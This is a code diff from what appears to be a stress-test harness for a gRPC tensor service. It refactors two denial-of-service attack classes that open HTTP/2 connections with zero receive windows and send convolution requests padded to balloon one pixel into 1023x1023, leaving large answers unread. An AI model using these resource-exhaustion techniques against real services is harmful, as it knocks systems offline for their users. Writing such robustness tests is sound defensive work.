@@ -10,6 +10,21 @@ CONVOLVE = "/tensord.v1.TensorService/Convolve"
 STREAM = "/tensord.v1.TensorService/StreamCompute"
 
 
+def connect_without_window(context):
+    """A connection whose client has no room for any answer."""
+    connection = context.connect(polite=False)
+    connection.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, 1, 0))
+    return connection
+
+
+def enlarge(request, requests):
+    """A pixel that becomes 1023 x 1023."""
+    request.input.CopyFrom(requests.zeros(1, 1, 1))
+    request.filter.CopyFrom(requests.zeros(1, 1, 1, 1))
+    request.conventions.padding.begin.append(511)
+    return request
+
+
 class AnswersUnread(Attack):
     name = "answers_unread"
     what = "400 small calls with answers of 4 MiB, from clients whose windows are 0: answers that nobody takes"
@@ -22,15 +37,11 @@ class AnswersUnread(Attack):
     def attack(self, context):
         connections, calls = context.scaled(20, 8), 20
         requests = context.bench.requests
-        request = requests.convolution_pb2.ConvolveRequest(input=requests.zeros(1, 1, 1),
-                                                           filter=requests.zeros(1, 1, 1, 1))
-        request.conventions.padding.begin.append(511)  # a pixel becomes 1023 x 1023
+        request = enlarge(requests.convolution_pb2.ConvolveRequest(), requests)
         body = grpc_message(request.SerializeToString())
         opened = []
         for _ in range(connections):
-            connection = context.connect(polite=False)
-            connection.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) +
-                            frame(SETTINGS, 1, 0))
+            connection = connect_without_window(context)
             opened.append(connection)
             for _ in range(calls):
                 connection.send_body(connection.open_stream(CONVOLVE), body)
@@ -61,15 +72,11 @@ class StreamsUnread(Attack):
         connections, operations = context.scaled(20, 8), 200
         requests = context.bench.requests
         operation = requests.stream_pb2.StreamComputeRequest()
-        operation.convolve.input.CopyFrom(requests.zeros(1, 1, 1))
-        operation.convolve.filter.CopyFrom(requests.zeros(1, 1, 1, 1))
-        operation.convolve.conventions.padding.begin.append(511)  # a pixel becomes 1023 x 1023
+        enlarge(operation.convolve, requests)
         body = grpc_message(operation.SerializeToString())
         opened = []
         for _ in range(connections):
-            connection = context.connect(polite=False)
-            connection.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) +
-                            frame(SETTINGS, 1, 0))
+            connection = connect_without_window(context)
             opened.append(connection)
             connection.send_body(connection.open_stream(STREAM), body * operations, end_stream=False)
         time.sleep(3)
